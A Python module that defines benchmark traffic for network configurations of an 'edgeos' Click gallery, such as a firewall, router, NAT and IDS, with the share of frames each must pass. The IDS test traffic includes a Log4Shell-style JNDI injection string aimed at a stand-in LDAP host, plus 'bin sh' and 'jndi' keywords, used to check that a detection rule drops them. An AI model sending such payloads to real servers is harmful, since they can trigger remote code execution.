"""What `edgeos bench click` sends through each configuration of the gallery, and what must come of it.

The same frames go through edgeos and, where it is there, through native Click, and the same share of them must leave: a
run that did other work is no measurement.
"""

from __future__ import annotations

import random
import string
import struct
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path

from edgeos.share import share
from edgeos.testing import CLIENT_MAC, ethernet_frame, internet_checksum, tcp_packet, udp_packet

ROUTER_MAC = bytes.fromhex("020000000101")
FLOWS_ONE_CLIENT = 64
FRAME = 64
"""Bytes of the frames that carry no payload of their own."""

REQUEST = 512
"""Bytes of a request in a payload that is searched."""

_UDP_HEADERS = 42
_TCP_HEADERS = 54

Frames = Callable[[int, int], Sequence[bytes]]
"""From the number of a client and of one of its flows to frames."""


@dataclass(frozen=True, kw_only=True)
class Case:
    """One configuration with its traffic, which comes in at `device`, its only one if it is `one_armed`.

    `passes` says for each frame of a client's flow whether it must leave. `neighbours` are entries for ARP tables:
    handler and value. `not_native` says why native Click cannot run the configuration.
    """

    name: str
    frames: Frames
    passes: Sequence[bool]
    define: Mapping[str, str] = field(default_factory=dict)
    neighbours: Sequence[tuple[str, str]] = ()
    device: str = "lan"
    one_armed: bool = False
    memory: int = 1 << 20
    not_native: str = ""

    @property
    def path(self) -> Path:
        """The configuration's file."""
        return share("appliances", "click", self.name, f"{self.name}.click")

    def traffic(self, clients: int) -> list[bytes]:
        """One turn of frames: clients take turns, and a single one has many flows."""
        flows = FLOWS_ONE_CLIENT if clients == 1 else 1
        return [frame for flow in range(flows) for client in range(clients) for frame in self.frames(client, flow)]

    @property
    def passed(self) -> float:
        """The share of the frames that must leave."""
        return sum(self.passes) / len(self.passes)


def client_address(prefix: str, client: int) -> str:
    """An address below 10.1 or the like, none that ends in 0 or 255."""
    return f"{prefix}.{1 + client // 200}.{2 + client % 200}"


def _to_router(frame: bytes) -> bytes:
    return ROUTER_MAC + frame[6:]


def _udp(prefix: str, to: str, port: int = 53) -> Frames:
    def frames(client: int, flow: int) -> Sequence[bytes]:
        source = client_address(prefix, client)
        return [_to_router(udp_packet(source, to, bytes(FRAME - _UDP_HEADERS), sport=1024 + flow, dport=port))]

    return frames


def _tcp(source: str, to: str, flow: int, port: int, payload: bytes = bytes(FRAME - _TCP_HEADERS)) -> bytes:
    return tcp_packet(source, to, payload, sport=1024 + flow, dport=port)


def _firewall(client: int, flow: int) -> Sequence[bytes]:
    """Seven packets that one rule or another lets pass, and one that none does."""
    source, to = client_address("10.1", client), "192.0.2.1"
    datagrams = [udp_packet(source, to, bytes(22), sport=1024 + flow, dport=port) for port in (53, 123)]
    segments = [_tcp(source, to, flow, port) for port in (22, 80, 443, 5201, 53, 25)]
    return [*datagrams, *segments]


def _pings(client: int, flow: int) -> Sequence[bytes]:
    body = struct.pack("!BBHHH", 8, 0, 0, client & 0xFFFF, flow) + bytes(FRAME - 42)
    body = body[:2] + struct.pack("!H", internet_checksum(body)) + body[4:]
    header = bytes.fromhex("4500") + struct.pack("!H", 20 + len(body)) + bytes.fromhex("0000400040010000")
    header += bytes(map(int, client_address("10.0", client).split("."))) + bytes((10, 0, 0, 1))
    header = header[:10] + struct.pack("!H", internet_checksum(header)) + header[12:]
    return [ethernet_frame(header + body, 0x0800, src=CLIENT_MAC, dst=ROUTER_MAC)]


def _requests(client: int, flow: int) -> Sequence[bytes]:
    """Eight requests of 512 bytes, of which the last has a word that a rule drops."""
    source, to = client_address("10.1", client), "192.0.2.1"
    head = "GET /articles/{}?q={} HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0\r\nCookie: "
    queries = ["weather", "union+of+sets", "the+select+few", "etc", "bin+sh", "jndi", "scripts", "${jndi:ldap://x/a}"]
    cookie = "".join(random.Random(1).choices(string.ascii_letters + string.digits, k=REQUEST))
    requests = [
        (head.format(number, query) + cookie)[: REQUEST - 4].encode() + b"\r\n\r\n"
        for number, query in enumerate(queries)
    ]
    return [_tcp(source, to, flow, 80, request) for request in requests]


CASES: Sequence[Case] = (
    Case(name="bridge", frames=_udp("10.1", "192.0.2.1"), passes=(True,)),
    Case(name="ping", frames=_pings, passes=(True,), one_armed=True),
    Case(name="firewall", frames=_firewall, passes=(True,) * 7 + (False,)),
    Case(
        name="router",
        frames=_udp("10.1", "10.2.0.2"),
        passes=(True,),
        define={"LAN": "10.1.0.1/16", "LAN_ALL": "10.1.255.255"},
        neighbours=(("wan/arp.insert", "10.2.0.2 02:00:00:00:00:22"),),
    ),
    Case(
        name="nat",
        memory=2 << 20,
        frames=_udp("192.168", "198.51.100.7"),
        passes=(True,),
        define={"LAN_NET": "192.168.0.0/16"},
        neighbours=(("wan_arp.insert", "203.0.113.1 02:00:00:00:00:22"),),
    ),
    Case(
        name="balancer",
        frames=_udp("10.1", "10.1.0.100"),
        passes=(True,),
        neighbours=tuple(("wan_arp.insert", f"10.2.0.1{n} 02:00:00:00:00:2{n}") for n in (1, 2, 3)),
    ),
    Case(
        name="limiter",
        frames=_udp("10.1", "192.0.2.1"),
        passes=(True,),
        define={"UP": "4GBps", "DOWN": "4GBps", "QUEUE": "128"},
    ),
    Case(
        name="ids",
        frames=_requests,
        passes=(True,) * 7 + (False,),
        not_native="it has no element that searches payloads for words",
    ),
)
